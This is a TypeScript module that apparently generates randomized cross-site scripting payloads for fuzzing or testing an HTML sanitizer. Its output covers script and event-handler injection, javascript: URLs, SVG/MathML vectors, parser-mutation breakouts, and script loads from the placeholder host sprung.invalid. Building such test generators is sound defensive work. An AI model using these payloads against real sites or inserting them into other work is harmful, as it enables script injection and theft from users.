import { type Family, HANDLERS, SCHEMES, TAGS, scriptCall, blank, asEntities, mixed, quoted } from './payload-parts.ts'

export const scriptTag: Family = (random) => {
  const open = mixed(random, random.oneOf(['<script', '<svg><script', '<scr<script>ipt', '<math><script', '<script/x']))
  return random.next() < 0.3
    ? `${open}${blank(random)}src=//sprung.invalid></script>`
    : `${open}>${scriptCall(random)}${random.oneOf(['</script>', '//', '<!--', ''])}`
}
export const eventHandler: Family = (random) => {
  const tag = random.oneOf(TAGS)
  const code = scriptCall(random)
  const value = quoted(random, random.next() < 0.3 ? asEntities(code) : code)
  return `<${mixed(random, tag)}${blank(random)}${HANDLERS[tag]}=${value}${random.oneOf(['>', '/>', ' x=">', '//', ''])}`
}
export const scriptUrl: Family = (random) => {
  const url = `${random.oneOf(SCHEMES)}${scriptCall(random)}`
  return random.oneOf([
    `<a href="${url}">x</a>`,
    `<iframe src="${url}">`,
    `<form action="${url}"><button autofocus>x`,
    `<object data="${url}">`,
    `<embed src="${url}">`,
    `<meta http-equiv=refresh content="0;${url}">`,
    `<base href=//sprung.invalid>`,
    `<area href="${url}">`,
    `<button formaction="${url}" form=x>`,
    url,
    `[x](${url})`,
    `![x](//sprung.invalid/x.png)`,
    `<${url}>`,
    `[x]: ${url}`,
  ])
}
export const svgMarkup: Family = (random) =>
  random.oneOf([
    `<svg><animate onbegin=${scriptCall(random)} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${scriptCall(random)}"><text y=9>x`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${scriptCall(random)}>#x">`,
    `<svg><set attributeName=href to=javascript:${scriptCall(random)}>`,
    `<math><maction actiontype=statusline xlink:href="javascript:${scriptCall(random)}">x`,
    `<svg><foreignObject><img src=x onerror=${scriptCall(random)}>`,
    `<svg><image href=//sprung.invalid/x.svg>`,
    `<svg><discard onbegin=${scriptCall(random)}>`,
  ])
export const parserMutation: Family = (random) => {
  const inner = `<img src=x onerror=${scriptCall(random)}>`
  return random.oneOf([
    `<noscript><p title="</noscript>${inner}">`,
    `<svg></p><style><a id="</style>${inner}">`,
    `<math><mtext><table><mglyph><style><!--</style>${inner}`,
    `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
    `<template>${inner}</template>`,
    `<select><style></select>${inner}</style>`,
    `<table><td>${inner}<caption>`,
    `<!--<img src="--!>${inner}">`,
    `<xmp><p title="</xmp>${inner}">`,
    `<title><a id="</title>${inner}">`,
    `<plaintext>${inner}`,
  ])
}
